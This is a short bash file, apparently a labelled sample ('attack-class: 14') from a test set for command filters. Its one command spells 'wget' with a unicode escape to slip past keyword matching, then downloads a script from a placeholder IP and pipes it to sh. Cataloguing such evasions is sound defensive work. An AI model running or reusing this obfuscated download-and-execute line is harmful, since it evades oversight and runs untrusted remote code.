#!/usr/bin/env bash
# attack-class: 14
# title: $'\u0077get'
# why: unicode escape inside ANSI-C quoting spells wget

$'\u0077get' -qO- http://203.0.113.9/p | sh
